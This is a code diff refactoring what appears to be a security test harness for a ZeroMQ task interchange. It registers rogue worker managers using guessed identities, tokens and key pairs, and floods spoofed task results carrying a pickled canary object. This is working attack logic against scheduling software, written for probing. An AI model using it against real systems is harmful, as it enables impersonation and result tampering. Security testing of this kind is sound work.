@@ -150,11 +150,10 @@ def can_connect(endpoint: str) -> str:
 
 
 # ---- 3. attack -------------------------------------------------------------------------------------
-def attack(endpoints, identities, tokens, keys, versions, canary: str, seconds: float, max_tid: int) -> dict:
-    ctx = zmq.Context()
+def open_sockets(ctx, endpoints, identities, tokens, keys) -> list:
+    """One DEALER per (endpoint, identity, token, key pair): plain text, then with any keys found."""
     socks = []
-    canary_payload = b"P" + pickle.dumps(Canary(canary))
-    key_pairs = [None] + [(k, s) for k in keys for s in keys if k != s][:20]   # plain text, then any keys found
+    key_pairs = [None] + [(k, s) for k in keys for s in keys if k != s][:20]
     for endpoint in endpoints:
         for identity in identities + [f"attacker-{uuid.uuid4().hex[:6]}"]:
             for token in tokens + [""]:
@@ -168,46 +167,60 @@ def attack(endpoints, identities, tokens, keys, versions, canary: str, seconds: 
                         sock.curve_publickey, sock.curve_secretkey = zmq.curve_keypair()
                     sock.connect(endpoint)
                     socks.append((sock, endpoint, identity, token))
-    report = {"sockets": len(socks), "sent_register": 0, "registered": 0, "refused": 0, "tasks_received": 0,
-              "canaries_sent": 0, "messages": []}
-    register = {"manager_id": "", "block_id": "attacker", "hostname": "attacker", "pid": os.getpid(),
-                "workers": 64, "prefetch": 64, "versions": versions, "accelerators": [], "containers": False,
+    return socks
+
+
+def send_registrations(socks, versions, canary_payload: bytes, max_tid: int, report: dict) -> None:
+    """REGISTER on every socket, then unsolicited canary results for task ids 1..max_tid."""
+    register = {"block_id": "attacker", "hostname": "attacker", "pid": os.getpid(), "workers": 64,
+                "prefetch": 64, "versions": versions, "accelerators": [], "containers": False,
                 "container_runtimes": []}
-    poller = zmq.Poller()
-    for sock, *_ in socks:
-        poller.register(sock, zmq.POLLIN)
-    for sock, endpoint, identity, token in socks:
-        body = dict(register, manager_id=identity, token=token)
+    tids = list(range(1, max_tid + 1))
+    for sock, _, identity, token in socks:
         try:
-            sock.send_multipart(P.pack(P.REGISTER, body))
+            sock.send_multipart(P.pack(P.REGISTER, dict(register, manager_id=identity, token=token)))
             report["sent_register"] += 1
-            # unsolicited results, registered or not: the client must never see them
-            tids = list(range(1, max_tid + 1))
             sock.send_multipart(P.pack(P.RESULTS, [[t, P.OK] for t in tids], [canary_payload] * len(tids)))
             report["canaries_sent"] += len(tids)
         except zmq.ZMQError:
             pass
+
+
+def answer(sock, endpoint: str, identity: str, canary_payload: bytes, report: dict) -> None:
+    """One message from the interchange: count it; answer tasks with canaries."""
+    try:
+        msg_type, body, _ = P.unpack(sock.recv_multipart())
+    except P.ProtocolError:
+        return
+    report["messages"].append([endpoint, identity, P.TYPE_NAMES.get(msg_type, str(msg_type))])
+    if msg_type == P.REGISTERED:
+        report["registered"] += 1
+        sock.send_multipart(P.pack(P.HEARTBEAT, {"capacity": 128}))
+    elif msg_type == P.REFUSED:
+        report["refused"] += 1
+    elif msg_type == P.TASKS:
+        tids = [t[0] for t in body]
+        report["tasks_received"] += len(tids)
+        sock.send_multipart(P.pack(P.RESULTS, [[t, P.OK] for t in tids], [canary_payload] * len(tids)))
+        report["canaries_sent"] += len(tids)
+
+
+def attack(endpoints, identities, tokens, keys, versions, canary: str, seconds: float, max_tid: int) -> dict:
+    ctx = zmq.Context()
+    socks = open_sockets(ctx, endpoints, identities, tokens, keys)
+    canary_payload = b"P" + pickle.dumps(Canary(canary))
+    report = {"sockets": len(socks), "sent_register": 0, "registered": 0, "refused": 0, "tasks_received": 0,
+              "canaries_sent": 0, "messages": []}
+    send_registrations(socks, versions, canary_payload, max_tid, report)
+    poller = zmq.Poller()
+    where = {}
+    for sock, endpoint, identity, _ in socks:
+        poller.register(sock, zmq.POLLIN)
+        where[sock] = (endpoint, identity)
     deadline = time.monotonic() + seconds
-    by_sock = {s: (e, ident) for s, e, ident, _ in socks}
     while time.monotonic() < deadline:
         for sock, _ in poller.poll(200):
-            endpoint, identity = by_sock[sock]
-            try:
-                msg_type, body, payloads = P.unpack(sock.recv_multipart())
-            except P.ProtocolError:
-                continue
-            name = P.TYPE_NAMES.get(msg_type, str(msg_type))
-            report["messages"].append([endpoint, identity, name])
-            if msg_type == P.REGISTERED:
-                report["registered"] += 1
-                sock.send_multipart(P.pack(P.HEARTBEAT, {"capacity": 128}))
-            elif msg_type == P.REFUSED:
-                report["refused"] += 1
-            elif msg_type == P.TASKS:
-                tids = [t[0] for t in body]
-                report["tasks_received"] += len(tids)
-                sock.send_multipart(P.pack(P.RESULTS, [[t, P.OK] for t in tids], [canary_payload] * len(tids)))
-                report["canaries_sent"] += len(tids)
+            answer(sock, *where[sock], canary_payload, report)
     for sock, *_ in socks:
         sock.close(0)
     ctx.term()
